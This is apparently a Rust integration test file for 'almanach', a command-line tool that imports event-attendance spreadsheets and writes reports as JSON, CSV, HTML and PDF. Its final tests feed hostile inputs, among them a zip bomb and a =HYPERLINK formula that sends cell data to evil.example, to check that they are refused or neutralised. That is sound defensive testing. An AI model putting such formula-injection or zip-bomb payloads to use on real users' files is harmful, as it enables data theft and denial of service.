//! `almanach import` and `almanach report` as a person uses them, and the
//! proof against the seed: its raw session records, imported from the
//! spreadsheet fixture, give exactly the seed's figures on both databases.

use std::path::PathBuf;
use std::process::{Command, Output};

use almanach_store::Backend;
use serde_json::Value;

fn almanach(db: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_almanach"))
        .arg("--database")
        .arg(db)
        .args(args)
        .output()
        .unwrap()
}

fn ok(out: Output) -> String {
    assert!(
        out.status.success(),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn fixture(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
        .display()
        .to_string()
}

fn temp_file(name: &str, bytes: &[u8]) -> String {
    let dir = std::env::temp_dir().join("almanach-history-tests");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(format!("{}-{}-{name}", std::process::id(), nanos()));
    std::fs::write(&path, bytes).unwrap();
    path.display().to_string()
}

fn nanos() -> u128 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos()
}

fn url(backend: Backend) -> Option<String> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(almanach_store::testing::fresh_url(backend))
}

fn sqlite() -> String {
    url(Backend::Sqlite).unwrap()
}

fn report(db: &str, args: &[&str]) -> Value {
    let mut all = vec!["report"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--format", "json"]);
    serde_json::from_str(&ok(almanach(db, &all))).unwrap()
}

fn seed_proof(db: &str) {
    let out = ok(almanach(db, &["import", &fixture("seed.csv")]));
    assert!(out.contains("séances : 181"), "{out}");

    // Samedis de l'innovation, January to December 2024: 9 events, 19 per workshop, 73 per talk.
    let r = report(
        db,
        &["--year", "2024", "--series", "Samedis de l'innovation"],
    );
    assert_eq!(
        r["period"],
        serde_json::json!({"from": "2024-01-01", "to": "2024-12-31"})
    );
    let t = &r["total"];
    assert_eq!(t["events"], 9);
    assert_eq!(t["avg_per_workshop"].as_f64(), Some(19.0));
    assert_eq!(t["avg_per_talk"].as_f64(), Some(73.0));
    assert_eq!(
        (
            t["talks"].as_i64(),
            t["workshops"].as_i64(),
            t["uncounted_sessions"].as_i64()
        ),
        (Some(9), Some(11), Some(1))
    );
    assert_eq!(r["series"].as_array().unwrap().len(), 1);
    assert_eq!(r["series"][0]["series"], "Samedis de l'innovation");

    // January to April 2025: 4 events, 22 per workshop, 42 per talk.
    let t = report(
        db,
        &[
            "--from",
            "01/01/2025",
            "--to",
            "2025-04-30",
            "--series",
            "samedis de l'innovation",
        ],
    )["total"]
        .clone();
    assert_eq!(t["events"], 4);
    assert_eq!(t["avg_per_workshop"].as_f64(), Some(22.0));
    assert_eq!(t["avg_per_talk"].as_f64(), Some(42.0));

    // Points du numérique 2023-24: one session per theme, 141 participants, none under 14.
    let t = report(
        db,
        &["--season", "2023-2024", "--series", "Points du numérique"],
    )["total"]
        .clone();
    assert_eq!(
        t["sessions_per_theme"],
        serde_json::json!({"min": 1, "max": 1})
    );
    assert_eq!(t["participants"], 141);
    assert_eq!(t["under_14"], 0);
    assert_eq!(t["themes"], t["sessions"]);

    // Points de l'IA 2024-25: 44 themes, 2 to 4 sessions per theme, 429 participants, 50 under 14.
    let t = report(db, &["--season", "2024-2025", "--series", "Points de l'IA"])["total"].clone();
    assert_eq!(t["themes"], 44);
    assert_eq!(
        t["sessions_per_theme"],
        serde_json::json!({"min": 2, "max": 4})
    );
    assert_eq!(t["participants"], 429);
    assert_eq!(t["under_14"], 50);
    assert_eq!(t["uncounted_sessions"], 2);
    assert_eq!(
        t["avg_per_workshop"].as_f64(),
        Some(429.0 / 129.0),
        "full precision, over counted sessions"
    );
}

#[test]
fn the_seed_figures_come_out_of_the_imported_records_on_sqlite() {
    seed_proof(&sqlite());
}

#[test]
#[cfg_attr(
    not(almanach_postgres_tests),
    ignore = "PostgreSQL: set ALMANACH_TEST_POSTGRES"
)]
fn the_seed_figures_come_out_of_the_imported_records_on_postgres() {
    seed_proof(&url(Backend::Postgres).expect("postgres"));
}

#[test]
fn the_json_keeps_its_documented_shape() {
    let db = sqlite();
    ok(almanach(&db, &["import", &fixture("seed.csv")]));
    let r = report(&db, &["--season", "2024-2025", "--compare-previous"]);
    let keys = |v: &Value| {
        let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
        k.sort();
        k
    };
    assert_eq!(keys(&r), ["period", "previous", "series", "total"]);
    let row = [
        "appointments",
        "avg_per_talk",
        "avg_per_workshop",
        "change",
        "cost_cents",
        "cost_eur",
        "cost_per_participant_cents",
        "cost_per_participant_eur",
        "events",
        "participants",
        "sessions",
        "sessions_per_theme",
        "talks",
        "themes",
        "top_themes",
        "uncounted_sessions",
        "under_14",
        "workshops",
    ];
    assert_eq!(keys(&r["total"]), row, "the total has no series name");
    let samedis = r["series"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["series"] == "Samedis de l'innovation")
        .unwrap();
    assert_eq!(keys(samedis).len(), row.len() + 1);
    assert_eq!(
        keys(&r["total"]["top_themes"][0]),
        ["participants", "sessions", "theme"]
    );
    let top = r["total"]["top_themes"].as_array().unwrap();
    assert!(
        top.windows(2)
            .all(|w| w[0]["participants"].as_i64() >= w[1]["participants"].as_i64()),
        "most followed first"
    );
    assert_eq!(keys(&r["previous"]), ["period", "series", "total"]);
    assert_eq!(r["previous"]["period"]["from"], "2023-09-01");
    let change = &r["total"]["change"]["participants"];
    assert_eq!(
        change["delta"].as_i64().unwrap(),
        r["total"]["participants"].as_i64().unwrap()
            - r["previous"]["total"]["participants"].as_i64().unwrap()
    );
    // Without --compare-previous there is neither `previous` nor `change`.
    let plain = report(&db, &["--season", "2024-2025"]);
    assert_eq!(keys(&plain), ["period", "series", "total"]);
    assert!(plain["total"].get("change").is_none());
}

/// Pages of a PDF: its page objects.
fn pages(pdf: &[u8]) -> usize {
    let text = String::from_utf8_lossy(pdf);
    text.matches("/Type /Page").count() - text.matches("/Type /Pages").count()
}

#[test]
fn the_review_as_pdf() {
    let db = sqlite();
    ok(almanach(&db, &["import", &fixture("seed.csv")]));
    let out = temp_file("review.pdf", b"");
    ok(almanach(
        &db,
        &[
            "report",
            "--season",
            "2024-2025",
            "--compare-previous",
            "--format",
            "pdf",
            "--output",
            &out,
        ],
    ));
    let pdf = std::fs::read(&out).unwrap();
    assert!(pdf.starts_with(b"%PDF-"), "a PDF file");
    assert!(
        pdf.ends_with(b"%%EOF\n") || pdf.ends_with(b"%%EOF"),
        "complete"
    );
    let n = pages(&pdf);
    assert!(n >= 2, "figures and charts, then the tables: {n} pages");
    let stdout = almanach(
        &db,
        &[
            "report",
            "--year",
            "2024",
            "--series",
            "Samedis de l'innovation",
            "--format",
            "pdf",
        ],
    );
    assert!(
        stdout.status.success() && stdout.stdout.starts_with(b"%PDF-"),
        "to standard output too"
    );

    // Its text, when poppler's pdftotext is there (CI installs it).
    let Ok(text) = Command::new("pdftotext")
        .args(["-layout", &out, "-"])
        .output()
    else {
        assert!(
            std::env::var_os("CI").is_none(),
            "pdftotext must be installed in CI: the PDF's text may not go unchecked"
        );
        eprintln!("pdftotext not found: the PDF's text is not checked");
        return;
    };
    let text = String::from_utf8_lossy(&text.stdout).replace(['\u{a0}', '\u{202f}'], " ");
    for expected in [
        "Bilan de la saison 2024-2025",
        "du dimanche 1er septembre 2024 au dimanche 31 août 2025",
        "Établi le ",
        "Chiffres clés",
        "1 095",
        "Fréquentation par saison",
        "Thématiques les plus suivies",
        "Part des moins de 14 ans",
        "Points de l'IA",
        "Par rapport à 2023-2024",
        &format!("Page 1 sur {n}"),
        &format!("Page {n} sur {n}"),
    ] {
        assert!(
            text.contains(expected),
            "{expected:?} missing from the PDF's text:\n{text}"
        );
    }
    let samedis = temp_file("samedis.pdf", b"");
    std::fs::write(&samedis, &stdout.stdout).unwrap();
    let text = Command::new("pdftotext")
        .args([&samedis, "-"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&text.stdout).replace(['\u{a0}', '\u{202f}'], " ");
    assert!(
        text.contains("19 pers. / atelier") && text.contains("73 pers. / rencontre"),
        "{text}"
    );
}

#[test]
fn csv_and_html_for_people() {
    let db = sqlite();
    ok(almanach(&db, &["import", &fixture("seed.csv")]));
    let csv = ok(almanach(
        &db,
        &[
            "report",
            "--year",
            "2024",
            "--series",
            "Samedis de l'innovation",
            "--format",
            "csv",
        ],
    ));
    assert!(
        csv.starts_with("\u{feff}Période;Cycle;Événements;"),
        "{csv}"
    );
    assert!(
        csv.contains("\r\n2024;Samedis de l'innovation;9;20;9;11;0;847;"),
        "{csv}"
    );
    assert!(csv.contains(";73,00;19,00;"), "comma decimals: {csv}");

    let out = temp_file("review.html", b"");
    ok(almanach(
        &db,
        &[
            "report",
            "--season",
            "2024-2025",
            "--compare-previous",
            "--format",
            "html",
            "--output",
            &out,
        ],
    ));
    let html = std::fs::read_to_string(&out).unwrap();
    assert!(html.starts_with("<!doctype html>"));
    assert!(html.contains("Bilan de la saison 2024-2025"));
    assert!(html.contains("Par rapport à 2023-2024"));
    assert!(
        html.contains("1\u{202f}095"),
        "thousands with a narrow no-break space"
    );
    let samedis = ok(almanach(
        &db,
        &[
            "report",
            "--year",
            "2024",
            "--series",
            "Samedis de l'innovation",
            "--format",
            "html",
        ],
    ));
    assert!(samedis.contains("19\u{a0}pers. / atelier"), "{samedis}");
    assert!(samedis.contains("73\u{a0}pers. / rencontre"));
    assert!(samedis.contains("Cycle\u{202f}: Samedis de l&#39;innovation"));
    assert!(
        html.contains("<title id=\"chart-attendance-title\">Fréquentation par saison</title>"),
        "the charts as SVG"
    );
    let unknown = almanach(
        &db,
        &[
            "report", "--year", "2024", "--series", "Jeudis", "--format", "json",
        ],
    );
    assert!(
        String::from_utf8_lossy(&unknown.stderr)
            .contains("no series named \"Jeudis\"; the series are: Accompagnement individuel,")
    );
    let none = almanach(&db, &["report", "--format", "json"]);
    assert!(!none.status.success(), "a period is required");
    let bad = almanach(
        &db,
        &["report", "--season", "2024-2026", "--format", "json"],
    );
    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a season like 2024-2025"));
}

#[test]
fn a_dry_run_writes_nothing_and_a_second_import_creates_nothing() {
    let db = sqlite();
    let seed = fixture("seed.csv");
    let dry = ok(almanach(&db, &["import", "--dry-run", &seed]));
    assert!(dry.contains("à créer (essai : rien n'est écrit)"), "{dry}");
    assert!(dry.contains("cycles : 5 — Dimanches de l'innovation, Samedis de l'innovation, Points du numérique, Points de l'IA, Accompagnement individuel"));
    assert!(dry.contains("lieux : 2 — Espace numérique, Auditorium"));
    assert!(dry.contains("séances : 181"));
    assert_eq!(
        report(&db, &["--year", "2024"])["total"]["sessions"],
        0,
        "nothing written"
    );
    let first = ok(almanach(&db, &["import", &seed]));
    assert_eq!(
        first.lines().skip(2).collect::<Vec<_>>(),
        dry.lines().skip(2).collect::<Vec<_>>()
    );
    let again = ok(almanach(&db, &["import", &seed]));
    assert!(
        again.contains("événements : 0") && again.contains("séances : 0"),
        "{again}"
    );
    assert!(again.contains("déjà importées, laissées telles quelles : 181 séances"));
    assert_eq!(
        report(&db, &["--season", "2024-2025"])["total"]["sessions"],
        153
    );
}

#[test]
fn every_error_is_reported_with_line_and_column_and_nothing_is_written() {
    let db = sqlite();
    let bad = "Date;Début;Fin;Cycle;Type;Participants;Moins de 14 ans;Jauge;Coût\n\
               13/01/2024;14h;15h;Samedis;rencontre;70;;;\n\
               32/01/2024;14h;;Samedis;atelier;10;;;\n\
               14/01/2024;9h75;;;fête;dix;;;\n\
               15/01/2024;16h;15h;Samedis;atelier;5;6;0;12,345\n\
               \"16/01/2024;14h;;Samedis;atelier;5;;;\n";
    let out = almanach(&db, &["import", &temp_file("bad.csv", bad.as_bytes())]);
    assert!(!out.status.success());
    let err = String::from_utf8(out.stderr).unwrap();
    // The unterminated quote stops the reading: it is the one error.
    assert!(
        err.contains("ligne 6\u{a0}: guillemet ouvert jamais refermé"),
        "{err}"
    );
    let bad = bad.replace("\"16/01", "16/01");
    let out = almanach(
        &db,
        &["import", "--dry-run", &temp_file("bad.csv", bad.as_bytes())],
    );
    assert!(!out.status.success());
    let err = String::from_utf8(out.stderr).unwrap();
    for expected in [
        "ligne 3, colonne «\u{a0}Date\u{a0}»\u{a0}: date «\u{a0}32/01/2024\u{a0}» illisible",
        "ligne 4, colonne «\u{a0}Cycle\u{a0}»\u{a0}: valeur obligatoire manquante",
        "ligne 4, colonne «\u{a0}Début\u{a0}»\u{a0}: heure «\u{a0}9h75\u{a0}» illisible",
        "ligne 4, colonne «\u{a0}Type\u{a0}»\u{a0}: type «\u{a0}fête\u{a0}» inconnu",
        "ligne 4, colonne «\u{a0}Participants\u{a0}»\u{a0}: «\u{a0}dix\u{a0}» n'est pas un nombre entier",
        "ligne 5, colonne «\u{a0}Fin\u{a0}»\u{a0}: la fin (15h) doit suivre le début",
        "ligne 5, colonne «\u{a0}Moins de 14 ans\u{a0}»\u{a0}: plus de moins de 14 ans (6) que de participants",
        "ligne 5, colonne «\u{a0}Jauge\u{a0}»\u{a0}: «\u{a0}0\u{a0}» n'est pas un nombre entier",
        "ligne 5, colonne «\u{a0}Coût\u{a0}»\u{a0}: coût «\u{a0}12,345\u{a0}» illisible",
    ] {
        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
    }
    assert!(err.contains("almanach: error: 9 erreurs"), "{err}");
    assert!(!err.contains("ligne 2,"), "the good line has no error");
    assert!(!err.contains("ligne 6,"));
    let missing = almanach(
        &db,
        &[
            "import",
            &temp_file("cols.csv", b"date;titre\n13/01/2024;x\n"),
        ],
    );
    let err = String::from_utf8(missing.stderr).unwrap();
    assert!(
        err.contains("ligne 1, colonne «\u{a0}cycle\u{a0}»\u{a0}: colonne obligatoire absente"),
        "{err}"
    );
    assert!(
        err.contains("colonne «\u{a0}type\u{a0}»")
            && err.contains("colonne «\u{a0}participants\u{a0}»")
    );
    // The good line was not written either: all or nothing.
    assert_eq!(report(&db, &["--year", "2024"])["total"]["sessions"], 0);
}

#[test]
fn comma_separated_english_csv_with_a_bom() {
    let db = sqlite();
    let csv = "\u{feff}Date,Start,End,Series,Kind,Title,Theme,Room,Participants,Under 14,Registered,Capacity,Speaker,Cost\r\n\
               2024-03-09,14:00,15:30,Saturdays,Round table,\"AI, images and truth\",Images,Hall,60,5,,100,Fake off,\"350.50\"\r\n\
               2024-03-09,16:00,17:30,Saturdays,Workshop,\"AI, images and truth\",Images,Lab,18,6,20,20,Fake off,\r\n";
    let out = ok(almanach(
        &db,
        &["import", &temp_file("en.csv", csv.as_bytes())],
    ));
    assert!(out.contains("CSV «\u{a0},\u{a0}», UTF-8 avec BOM"), "{out}");
    assert!(out.contains("événements : 1"), "{out}");
    let t = report(&db, &["--year", "2024"])["total"].clone();
    assert_eq!(
        (
            t["talks"].as_i64(),
            t["workshops"].as_i64(),
            t["participants"].as_i64()
        ),
        (Some(1), Some(1), Some(78))
    );
    assert_eq!(t["cost_eur"].as_f64(), Some(350.5));
}

#[test]
fn windows_1252_is_read_as_such() {
    let db = sqlite();
    let mut bytes = b"date;cycle;type;participants;lieu;th\xe9matique\n17/03/2024;Dimanches;Conf\xe9rence;58;M\xe9diath\xe8que;IA et d\xe9sinformation\n".to_vec();
    bytes.extend_from_slice(
        b"18/03/2024;Dimanches;atelier;12;M\xe9diath\xe8que;\x93Deepfakes\x94\n",
    );
    let out = ok(almanach(&db, &["import", &temp_file("cp1252.csv", &bytes)]));
    assert!(out.contains("Windows-1252"), "{out}");
    assert!(out.contains("lieux : 1 — Médiathèque"), "{out}");
    assert!(
        out.contains("thématiques : 2 — IA et désinformation, “Deepfakes”"),
        "{out}"
    );
}

#[test]
fn an_xlsx_workbook_on_its_named_sheet() {
    let db = sqlite();
    let book = fixture("small.xlsx");
    // The first sheet holds notes, not sessions.
    let first = almanach(&db, &["import", "--dry-run", &book]);
    assert!(!first.status.success());
    assert!(String::from_utf8_lossy(&first.stderr).contains("colonne obligatoire absente"));
    let missing = almanach(&db, &["import", "--sheet", "Bilan", &book]);
    assert!(
        String::from_utf8_lossy(&missing.stderr)
            .contains("feuille «\u{a0}Bilan\u{a0}» introuvable (feuilles\u{a0}: Notes, Séances)")
    );
    let out = ok(almanach(&db, &["import", "--sheet", "Séances", &book]));
    assert!(
        out.contains("XLSX, feuille «\u{a0}Séances\u{a0}», 3 lignes lues"),
        "{out}"
    );
    let r = report(&db, &["--year", "2024"]);
    let t = &r["total"];
    assert_eq!(
        (
            t["events"].as_i64(),
            t["sessions"].as_i64(),
            t["uncounted_sessions"].as_i64()
        ),
        (Some(2), Some(3), Some(1))
    );
    assert_eq!(
        (t["participants"].as_i64(), t["under_14"].as_i64()),
        (Some(79), Some(10))
    );
    assert_eq!(t["cost_eur"].as_f64(), Some(570.5));
    let spring = report(&db, &["--from", "2024-03-17", "--to", "2024-03-17"]);
    assert_eq!(spring["total"]["sessions"], 2, "dates read from date cells");
}

#[test]
fn report_and_import_have_help() {
    for cmd in ["report", "import"] {
        let out = Command::new(env!("CARGO_BIN_EXE_almanach"))
            .args([cmd, "--help"])
            .output()
            .unwrap();
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("Usage"), "{cmd}");
    }
    let report = Command::new(env!("CARGO_BIN_EXE_almanach"))
        .args(["report", "--help"])
        .output()
        .unwrap();
    let text = String::from_utf8(report.stdout).unwrap();
    for flag in [
        "--season",
        "--year",
        "--from",
        "--to",
        "--series",
        "--compare-previous",
        "--format",
        "--output",
        "json, csv, html, pdf",
    ] {
        assert!(text.contains(flag), "{flag} in {text}");
    }
}

/// Runs `almanach import` on `bytes` and returns its standard error,
/// checking it failed and wrote nothing.
fn refused(db: &str, name: &str, bytes: &[u8], extra: &[&str]) -> String {
    let path = temp_file(name, bytes);
    let mut args = extra.to_vec();
    args.extend_from_slice(&["import", &path]);
    let out = almanach(db, &args);
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(!out.status.success(), "{name}: {err}");
    assert!(
        err.contains("almanach: error: 1 erreur dans") && err.contains("rien n'a été importé"),
        "{name}: {err}"
    );
    assert_eq!(
        report(db, &["--year", "2024"])["total"]["sessions"],
        0,
        "{name}: nothing written"
    );
    err
}

#[test]
fn hostile_files_are_refused_in_french_and_the_command_survives() {
    use almanach_domain::import::build;
    let db = sqlite();
    let far = build::zip(&build::parts(&build::sheet(
        None,
        &[("A1", "date"), ("XFD1048576", "x")],
    )));
    let err = refused(&db, "loin.xlsx", &far, &[]);
    assert!(
        err.contains("fichier refusé\u{a0}: la cellule XFD1048576 est remplie"),
        "{err}"
    );
    let parts = build::parts(&build::sheet(None, &[("A1", "date")]));
    let bomb = build::zip_with_bomb(&parts, "xl/worksheets/sheet1.xml", 560 << 20, 560 << 20);
    let err = refused(&db, "bombe.xlsx", &bomb, &[]);
    assert!(
        err.contains("classeur trop volumineux une fois décompressé (plus de 50\u{a0}Mo)"),
        "{err}"
    );
    let mut ole = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    ole.resize(2048, 0);
    let err = refused(&db, "vieux.xls", &ole, &[]);
    assert!(err.contains("Excel 97-2003 (.xls)"), "{err}");
    let err = refused(
        &db,
        "nul.csv",
        b"date;cycle;type;participants\n13/01/2024;Sam\x00edis;atelier;3\n",
        &[],
    );
    assert!(
        err.contains("ligne 2, colonne «\u{a0}cycle\u{a0}»\u{a0}: caractère de contrôle interdit"),
        "{err}"
    );
    // The limits are settings: flags, environment or the configuration file.
    let csv = "date;cycle;type;participants\n13/01/2024;Samedis;atelier;3\n14/01/2024;Samedis;atelier;4\n";
    let err = refused(
        &db,
        "lignes.csv",
        csv.as_bytes(),
        &["--import-max-rows", "2"],
    );
    assert!(
        err.contains("fichier refusé à la ligne 3\u{a0}: plus de 2 lignes"),
        "{err}"
    );
    let big = vec![b'a'; (1 << 20) + 1];
    let err = refused(&db, "gros.csv", &big, &["--import-max-file-mb", "1"]);
    assert!(
        err.contains("fichier trop volumineux (1,0\u{a0}Mo)\u{a0}: 1\u{a0}Mo au plus"),
        "{err}"
    );
    let bad = almanach(&db, &["--import-max-unpacked-mb", "0", "import", "x.csv"]);
    assert!(
        String::from_utf8_lossy(&bad.stderr)
            .contains("import_max_unpacked_mb must be between 1 and 4096")
    );
    // Within the limits, a workbook built the same way imports.
    let ok_book = build::table(&[
        &["Date", "Cycle", "Type", "Participants"],
        &["13/01/2024", "Samedis", "atelier", "19"],
    ]);
    let out = ok(almanach(&db, &["import", &temp_file("ok.xlsx", &ok_book)]));
    assert!(out.contains("séances : 1"), "{out}");
}

#[test]
fn the_report_csv_neutralises_a_hostile_series_and_keeps_numbers() {
    let db = sqlite();
    let csv = "date;cycle;type;thématique;participants;moins de 14 ans;coût\n\
               16/11/2024;\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\";atelier;\"@SUM(A1)\";19;2;150,50\n\
               17/11/2024;-12;rencontre;;73;;\n";
    ok(almanach(
        &db,
        &["import", &temp_file("hostile.csv", csv.as_bytes())],
    ));
    let out = ok(almanach(
        &db,
        &["report", "--season", "2024-2025", "--format", "csv"],
    ));
    let lines: Vec<&str> = out.trim_start_matches('\u{feff}').split("\r\n").collect();
    assert!(
        lines.iter().any(|l| l.starts_with(
            "2024-2025;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\";1;1;0;1;0;19;2;0;;19,00;1;1;1;150,50;7,92"
        )),
        "{out}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("2024-2025;\"'-12\";1;1;1;0;0;73;0;0;73,00;")),
        "{out}"
    );
}
